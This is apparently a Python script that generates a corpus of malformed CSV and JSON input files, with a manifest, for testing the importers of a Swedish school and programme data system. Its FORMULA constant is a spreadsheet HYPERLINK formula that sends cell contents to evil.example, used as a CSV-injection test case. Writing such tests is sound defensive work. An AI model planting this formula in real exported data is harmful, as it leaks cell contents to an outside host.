"""Writes the bad-file corpus in this folder and its manifest.json.

    .venv/bin/python tests/badinput/files/generate.py

Each file is bad at one place (``where`` in the manifest); test_file_corpus.py runs them.
Values of 1 MB are written as @@LONG@@ and expanded by the test, so the repository holds
no megabytes. Deterministic: running it again rewrites the same bytes.
"""

import datetime as dt
import json
from pathlib import Path

from lotsen.people.identity import make_identity_number

ROOT = Path(__file__).resolve().parent
PNR = make_identity_number(dt.date(2009, 5, 17), 123)  # exists in the world (grades, attendance)
PNR2 = make_identity_number(dt.date(2009, 6, 1), 456)
BADPNR = PNR[:-1] + str((int(PNR[-1]) + 1) % 10)
entries = []
FORMULA = '"=HYPERLINK(""http://evil.example/?a=""&A1;""x"")"'


def add(importer, name, content, where, note, **extra):
    folder = ROOT / importer
    folder.mkdir(parents=True, exist_ok=True)
    ext = "json" if importer == "programme" else "csv"
    path = folder / f"{name}.{ext}"
    data = content if isinstance(content, bytes) else content.encode()
    path.write_bytes(data)
    entries[:] = [e for e in entries if e["file"] != f"{importer}/{name}.{ext}"]
    entries.append(
        {
            "file": f"{importer}/{name}.{ext}",
            "importer": importer,
            "where": where,
            "note": note,
            **extra,
        }
    )


def csvs(importer, header, good, *, date_col, text_col, samples):
    """The cases every CSV importer gets: a bad value goes in text_col, a bad date in date_col."""
    h = ",".join(header)

    def row(**changes):
        values = list(good)
        for k, v in changes.items():
            values[header.index(k)] = v
        return ",".join(values)

    add(
        importer,
        "long_field",
        f"{h}\n{row()}\n{row(**{text_col: '@@LONG@@'})}\n",
        f"rad 3, kolumn {text_col}",
        "1 MB value (expanded at run time)",
        expand=True,
    )
    crfile = f"{h}\r{row()}\r{row(**{text_col: 'x' + chr(7) + 'y'})}\r"
    add(
        importer,
        "cr_only_line_endings",
        crfile,
        f"rad 3, kolumn {text_col}",
        "CR-only line endings, a control character on line 3",
    )
    add(
        importer,
        "nul_byte",
        f"{h}\n{row(**{text_col: 'An' + chr(0) + 'na'})}\n",
        f"rad 2, kolumn {text_col}",
        "NUL byte in a value",
    )
    add(
        importer,
        "bad_utf8",
        (
            f"{h}\n{row()}\n".encode()
            + row(**{text_col: "Z"}).encode().replace(b"Z", b"\xc3\x28")
            + b"\n"
        ),
        "rad 3",
        "invalid UTF-8 on line 3",
    )
    add(
        importer,
        "latin1",
        (f"{h}\n" + row(**{text_col: "Åsa"}) + "\n").encode("latin-1"),
        "rad 2",
        "Latin-1, not UTF-8",
    )
    add(
        importer,
        "extra_trailing_values",
        f"{h}\n{row()}\n{row()},extra,values\n",
        "rad 3",
        "more values than the header",
    )
    add(
        importer,
        "missing_column",
        ",".join(header[:-1] if header[-1] != header[0] else header[1:])
        + "\n"
        + ",".join(good[:-1])
        + "\n",
        f"rad 1, kolumn {samples['missing']}",
        "a required column left out",
    )
    add(
        importer,
        "unknown_column",
        f"{h},colour\n{row()},röd\n",
        "rad 1, kolumn colour",
        "a column nobody knows",
    )
    add(importer, "empty_file", b"", "rad 1", "empty file")
    add(importer, "header_only", f"{h}\n", "rad 2", "a header and no rows")
    add(
        importer,
        "duplicate_column",
        f"{h},{header[0]}\n{row()},{good[0]}\n",
        f"rad 1, kolumn {header[0]}",
        "a column twice",
    )
    add(
        importer,
        "unclosed_quote",
        f"{h}\n{row()}\n" + row(**{text_col: '"open'}) + "\n",
        "rad 3",
        "a quote that never closes",
    )
    formula = row(**{text_col: FORMULA})
    bad = row(**{samples["bad_col"]: samples["bad_value"]})
    add(
        importer,
        "formula_and_error",
        f"{h}\n{formula}\n{bad}\n",
        f"rad 3, kolumn {samples['bad_col']}",
        "a formula is plain text; the error on line 3 stops the file",
    )
    if date_col:
        add(
            importer,
            "bad_date",
            f"{h}\n{row(**{date_col: '28/2/2024'})}\n",
            f"rad 2, kolumn {date_col}",
            "date not YYYY-MM-DD",
        )
        add(
            importer,
            "date_0001",
            f"{h}\n{row(**{date_col: '0001-01-01'})}\n",
            f"rad 2, kolumn {date_col}",
            "0001-01-01",
        )
        add(
            importer,
            "date_9999",
            f"{h}\n{row(**{date_col: '9999-12-31'})}\n",
            f"rad 2, kolumn {date_col}",
            "9999-12-31",
        )
    if "personnummer" in header:
        add(
            importer,
            "bad_personnummer",
            f"{h}\n{row()}\n{row(personnummer=BADPNR)}\n",
            "rad 3, kolumn personnummer",
            "wrong check digit; the number must not be echoed",
            secret=BADPNR,
        )
    return row, h


# --- KAA population
P_H = [
    "personnummer",
    "given_name",
    "family_name",
    "municipality_code",
    "moved_in",
    "moved_out",
    "protected_identity",
    "asylum_seeker",
]
row, h = csvs(
    "population",
    P_H,
    [PNR2, "Elin", "Ek", "2480", "2009-06-01", "", "0", "0"],
    date_col="moved_in",
    text_col="given_name",
    samples={"missing": "asylum_seeker", "bad_col": "municipality_code", "bad_value": "24800"},
)
add(
    "population",
    "duplicate_rows",
    f"{h}\n{row()}\n{row()}\n",
    "rad 3, kolumn moved_in",
    "the same period twice overlaps",
)
add(
    "population",
    "not_a_boolean",
    f"{h}\n{row(protected_identity='ja')}\n",
    "rad 2, kolumn protected_identity",
    "0 or 1",
)
add(
    "population",
    "name_too_long",
    f"{h}\n{row(family_name='x' * 101)}\n",
    "rad 2, kolumn family_name",
    "101 characters",
)
# --- KAA enrolments
E_H = ["personnummer", "school_unit_code", "school_type", "programme", "start", "end", "end_reason"]
row, h = csvs(
    "enrolments",
    E_H,
    [PNR, "19990001", "GY", "NA", "2024-08-19", "", ""],
    date_col="start",
    text_col="end_reason",
    samples={"missing": "end_reason", "bad_col": "school_type", "bad_value": "XX"},
)
add(
    "enrolments",
    "end_9999",
    f"{h}\n{row(end='9999-12-31')}\n",
    "rad 2, kolumn end",
    "an open end is empty, not 9999-12-31",
)
# --- KAA qualifications
Q_H = ["personnummer", "date", "kind"]
row, h = csvs(
    "qualifications",
    Q_H,
    [PNR, "2025-06-10", "gymnasieexamen"],
    date_col="date",
    text_col="kind",
    samples={"missing": "kind", "bad_col": "date", "bad_value": "2025-13-01"},
)
# --- Participants
PA_H = [
    "subproject",
    "personnummer",
    "gender",
    "entry_date",
    "entry_status",
    "education_level",
    "disability",
    "foreign_background",
    "exit_date",
    "exit_status",
    "followup_6m_status",
    "given_name",
    "family_name",
]
row, h = csvs(
    "participants",
    PA_H,
    [
        "Aby unga",
        PNR2,
        "woman",
        "2022-03-01",
        "unemployed",
        "isced_0_2",
        "no",
        "no",
        "",
        "",
        "",
        "Ung",
        "Person",
    ],
    date_col="entry_date",
    text_col="given_name",
    samples={"missing": "family_name", "bad_col": "gender", "bad_value": "okänt"},
)
# The names are the participation's own and required on every row, also for a
# personnummer Lotsen knows (PNR is in the world): a missing name must not be accepted for
# a known person and refused for an unknown one (issue 10).
add(
    "participants",
    "missing_name",
    f"{h}\n{row(personnummer=PNR, given_name='')}\n",
    "rad 2, kolumn given_name",
    "no given name for a person Lotsen knows",
)
add(
    "participants",
    "duplicate_rows",
    f"{h}\n{row()}\n{row()}\n",
    "rad 3, kolumn entry_date",
    "the same participation twice",
)
add(
    "participants",
    "exit_before_entry",
    f"{h}\n{row(exit_date='2022-01-15')}\n",
    "rad 2, kolumn exit_date",
    "exit before entry",
)
# --- Costs
C_H = ["subproject", "date", "category", "amount", "description", "reference"]
row, h = csvs(
    "costs",
    C_H,
    ["Aby unga", "2022-02-28", "staff", "100", "Lön", "V1"],
    date_col="date",
    text_col="description",
    samples={"missing": "reference", "bad_col": "category", "bad_value": "fika"},
)
# description is optional: make missing_column drop a required one
add(
    "costs",
    "missing_column",
    "subproject,date,category,amount,description\nAby unga,2022-02-28,staff,100,Lön\n",
    "rad 1, kolumn reference",
    "a required column left out",
)
add(
    "costs",
    "amount_1e15",
    f"{h}\n{row(amount='1000000000000000')}\n",
    "rad 2, kolumn amount",
    "more than the column holds",
)
add(
    "costs",
    "amount_1e26",
    f"{h}\n{row(amount='100000000000000000000000000')}\n",
    "rad 2, kolumn amount",
    "far more than the column holds",
)
add(
    "costs",
    "amount_exponent",
    f"{h}\n{row(amount='1e15')}\n",
    "rad 2, kolumn amount",
    "scientific notation",
)
add(
    "costs",
    "amount_negative",
    f"{h}\n{row(amount='-100')}\n",
    "rad 2, kolumn amount",
    "negative cost",
)
add(
    "costs",
    "duplicate_rows",
    f"{h}\n{row()}\n{row()}\n",
    "rad 3, kolumn reference",
    "the same reference twice",
)
# --- School CSV
SE_H = [
    "personnummer",
    "school_unit_code",
    "school_type",
    "start_date",
    "end_date",
    "end_reason",
    "school_year",
    "given_name",
    "family_name",
]
row, h = csvs(
    "school_enrolments",
    SE_H,
    [PNR2, "19990001", "GR", "2024-08-19", "", "", "9", "Anna", "Ek"],
    date_col="start_date",
    text_col="given_name",
    samples={"missing": "start_date", "bad_col": "school_type", "bad_value": "FS"},
)
add(
    "school_enrolments",
    "missing_column",
    ",".join(["personnummer", "school_unit_code", "school_type"]) + f"\n{PNR2},19990001,GR\n",
    "rad 1, kolumn start_date",
    "a required column left out",
)
add(
    "school_enrolments",
    "school_year_huge",
    f"{h}\n{row(school_year='1' + '0' * 30)}\n",
    "rad 2, kolumn school_year",
    "10^30",
)
add(
    "school_enrolments",
    "duplicate_rows",
    f"{h}\n{row()}\n{row()}\n",
    "rad 3",
    "the same enrolment twice",
)
SG_H = ["personnummer", "subject", "grade", "kind", "registered_on", "points", "year", "semester"]
row, h = csvs(
    "school_grades",
    SG_H,
    [PNR, "MA", "C", "final", "2026-06-10", "", "", ""],
    date_col="registered_on",
    text_col="subject",
    samples={"missing": "registered_on", "bad_col": "grade", "bad_value": "G"},
)
add(
    "school_grades",
    "missing_column",
    "personnummer,subject,grade,kind\n" + f"{PNR},MA,C,final\n",
    "rad 1, kolumn registered_on",
    "a required column left out",
)
add(
    "school_grades",
    "points_huge",
    f"{h}\n{row(points='9' * 40)}\n",
    "rad 2, kolumn points",
    "a 40-digit number",
)
add("school_grades", "duplicate_rows", f"{h}\n{row()}\n{row()}\n", "rad 3", "the same grade twice")
SA_H = [
    "personnummer",
    "start_date",
    "end_date",
    "offered_minutes",
    "attended_minutes",
    "valid_absence_minutes",
    "invalid_absence_minutes",
    "school_unit_code",
]
row, h = csvs(
    "school_attendance",
    SA_H,
    [PNR, "2025-08-18", "2025-12-19", "1000", "900", "50", "50", "19990001"],
    date_col="start_date",
    text_col="school_unit_code",
    samples={"missing": "school_unit_code", "bad_col": "attended_minutes", "bad_value": "-5"},
)
add(
    "school_attendance",
    "missing_column",
    "personnummer,start_date,end_date,offered_minutes\n" + f"{PNR},2025-08-18,2025-12-19,1000\n",
    "rad 1, kolumn attended_minutes",
    "a required column left out",
)
add(
    "school_attendance",
    "minutes_huge",
    f"{h}\n{row(offered_minutes='1' + '0' * 30)}\n",
    "rad 2, kolumn offered_minutes",
    "10^30 minutes",
)
add(
    "school_attendance",
    "negative_minutes",
    f"{h}\n{row(valid_absence_minutes='-1')}\n",
    "rad 2, kolumn valid_absence_minutes",
    "negative",
)


# --- School groups (classes and mentor groups)
GR_H = ["school_unit_code", "group_type", "group_name", "start_date", "school_year", "personnummer"]
row, h = csvs(
    "school_groups",
    GR_H,
    ["19990001", "Klass", "9A", "2025-08-18", "9", PNR],
    date_col="start_date",
    text_col="group_name",
    samples={"missing": "personnummer", "bad_col": "group_type", "bad_value": "Lag"},
)
add(
    "school_groups",
    "duplicate_rows",
    f"{h}\n{row()}\n{row()}\n",
    "rad 3",
    "the same pupil twice in one group",
)
add(
    "school_groups",
    "group_differs",
    f"{h}\n{row()}\n{row(school_year='8', personnummer=PNR2)}\n",
    "rad 3",
    "one group with two school years",
)
add(
    "school_groups",
    "name_too_long",
    f"{h}\n{row(group_name='x' * 101)}\n",
    "rad 2, kolumn group_name",
    "101 characters",
)


# --- Programme JSON
def prog(**over):
    doc = {
        "name": "Nytt program",
        "framework": "esfplus",
        "start": "2024-01-01",
        "end": "2026-12-31",
        "lead_organisation": {"name": "Region Korpus", "kind": "region"},
        "subprojects": [
            {
                "name": "Ett",
                "start": "2024-01-01",
                "end": "2025-12-31",
                "lead_organisation": {"name": "Region Korpus", "kind": "region"},
                "goals": [
                    {
                        "description": "Deltagare",
                        "indicator": "total_participants",
                        "target_value": 10,
                    }
                ],
            }
        ],
    }
    for path, value in over.items():
        target = doc
        keys = path.split("/")
        for k in keys[:-1]:
            target = target[int(k)] if k.isdigit() else target[k]
        last = keys[-1]
        if value is DELETE:
            del target[last]
        else:
            target[int(last) if last.isdigit() else last] = value
    return json.dumps(doc, ensure_ascii=False)


DELETE = object()
G = "$.subprojects[0].goals[0]"
add(
    "programme",
    "deep_nesting",
    '{"name": ' + "[" * 10000 + "]" * 10000 + "}",
    "$: JSON-dokumentet är nästlat djupare än 32 nivåer: vid $.name[0][0][0]",
    "10,000 nested lists",
)
add(
    "programme",
    "deep_objects",
    '{"a":' * 5000 + "1" + "}" * 5000,
    "$: JSON-dokumentet är nästlat djupare än 32 nivåer: vid $.a.a.a",
    "5,000 nested objects",
)
add(
    "programme",
    "target_1e30",
    prog(**{"subprojects/0/goals/0/target_value": 10**30}),
    f"{G}.target_value",
    "10^30 overflows the column",
)
add(
    "programme",
    "target_2e31",
    prog(**{"subprojects/0/goals/0/target_value": 2**31}),
    f"{G}.target_value",
    "just above the column",
)
add(
    "programme",
    "target_5000_digits",
    prog().replace('"target_value": 10', '"target_value": ' + "9" * 5000),
    f"{G}.target_value",
    "5,000 digits (int() refuses)",
)
add(
    "programme",
    "target_negative",
    prog(**{"subprojects/0/goals/0/target_value": -1}),
    f"{G}.target_value",
    "negative",
)
add(
    "programme",
    "target_float",
    prog(**{"subprojects/0/goals/0/target_value": 1.5}),
    f"{G}.target_value",
    "not an integer",
)
add(
    "programme",
    "target_string",
    prog(**{"subprojects/0/goals/0/target_value": "10"}),
    f"{G}.target_value",
    "a string",
)
add(
    "programme",
    "target_nan",
    prog().replace('"target_value": 10', '"target_value": NaN'),
    "$: NaN på rad 1, kolumn 392",
    "NaN is not JSON",
)
add("programme", "name_is_list", prog(name=["a"]), "$.name", "wrong type")
add("programme", "subprojects_is_object", prog(subprojects={"a": 1}), "$.subprojects", "wrong type")
add("programme", "goal_is_string", prog(**{"subprojects/0/goals/0": "mål"}), G, "wrong type")
add("programme", "date_0001", prog(start="0001-01-01"), "$.start", "0001-01-01")
add("programme", "date_9999", prog(end="9999-12-31"), "$.end", "9999-12-31")
add("programme", "date_number", prog(start=20240101), "$.start", "a number is not a date")
add("programme", "nul_in_name", prog(name="Pro\u0000gram"), "$.name", "NUL in a name")
add("programme", "top_level_list", "[]", "$: ", "not an object")
add("programme", "bad_json", '{"name": "x",', "$: Ogiltig JSON på rad 1, kolumn 14", "truncated")
add(
    "programme",
    "bad_utf8",
    b'{"name": "\xc3\x28"}',
    "$: JSON-dokumentet är inte giltig UTF-8: fel vid byte 10 (rad 1)",
    "invalid UTF-8",
)
add("programme", "empty_file", b"", "$: Ogiltig JSON på rad 1, kolumn 1", "empty")
add("programme", "name_too_long", prog(name="x" * 201), "$.name", "201 characters")
# --- Signals evaluate (target column utfall, positive value ja)
S_H = "betyg,franvaro,utfall"
good_rows = "".join(f"{10 + i % 7},{i % 5},{'ja' if i % 3 == 0 else 'nej'}\n" for i in range(30))
add(
    "signals",
    "long_field",
    f"{S_H}\n{good_rows}1,2,@@LONG@@\n",
    "rad 32, fält 3",
    "1 MB value",
    expand=True,
)
add(
    "signals",
    "cr_only_extra_value",
    (f"{S_H}\n{good_rows}1,2,ja,9\n").replace("\n", "\r"),
    "rad 32",
    "CR-only line endings, a value too many on line 32",
)
add("signals", "nul_byte", f"{S_H}\n{good_rows}1,2\x00,ja\n", "rad 32, fält 2", "NUL")
add(
    "signals",
    "bad_utf8",
    f"{S_H}\n{good_rows}".encode() + b"1,\xff,ja\n",
    "rad 32",
    "invalid UTF-8",
)
add(
    "signals",
    "extra_trailing_values",
    f"{S_H}\n{good_rows}1,2,ja,extra\n",
    "rad 32",
    "more values than the header",
)
add(
    "signals",
    "missing_target_column",
    "betyg,franvaro\n" + "".join(f"{i},{i}\n" for i in range(30)),
    "'utfall'",
    "the target column is not there",
)
add("signals", "empty_file", b"", "rad 1: filen är tom", "empty")
add("signals", "header_only", f"{S_H}\n", "rad 2: filen har en rubrikrad", "no rows")
add(
    "signals",
    "unclosed_quote",
    f"{S_H}\n{good_rows}" + '1,"2,ja\n',
    "rad 32",
    "a quote that never closes",
)
# --- Merit grades
M_H = "pupil,subject,grade"
add(
    "merit",
    "long_field",
    f"{M_H}\nAlva,SV,A\nAlva,@@LONG@@,A\n",
    "rad 3, kolumn subject",
    "1 MB subject",
    expand=True,
)
add(
    "merit",
    "cr_only",
    f"{M_H}\rAlva,SV,A\rAlva,XX,A\r",
    "rad 3",
    "CR-only, an unknown subject on line 3",
)
add("merit", "nul_byte", f"{M_H}\nAl\x00va,SV,A\n", "rad 2, kolumn pupil", "NUL")
add("merit", "bad_utf8", f"{M_H}\nAlva,SV,A\n".encode() + b"Bo,\xff,A\n", "rad 3", "invalid UTF-8")
add(
    "merit",
    "extra_trailing_values",
    f"{M_H}\nAlva,SV,A,B\n",
    "rad 2",
    "more values than the header",
)
add("merit", "missing_column", "pupil,subject\nAlva,SV\n", "rad 1", "a required column left out")
add("merit", "empty_file", b"", "filen är tom", "empty")
add("merit", "bad_grade", f"{M_H}\nAlva,SV,G\n", "rad 2", "G is not a grade")
add("merit", "duplicate_rows", f"{M_H}\nAlva,SV,A\nAlva,SV,A\n", "rad 3", "the same subject twice")
add("merit", "unclosed_quote", f'{M_H}\nAlva,"SV,A\n', "rad 2", "a quote that never closes")

(ROOT / "manifest.json").write_text(
    json.dumps({"personnummer_in_world": PNR, "files": entries}, ensure_ascii=False, indent=1)
    + "\n"
)
print(len(entries))
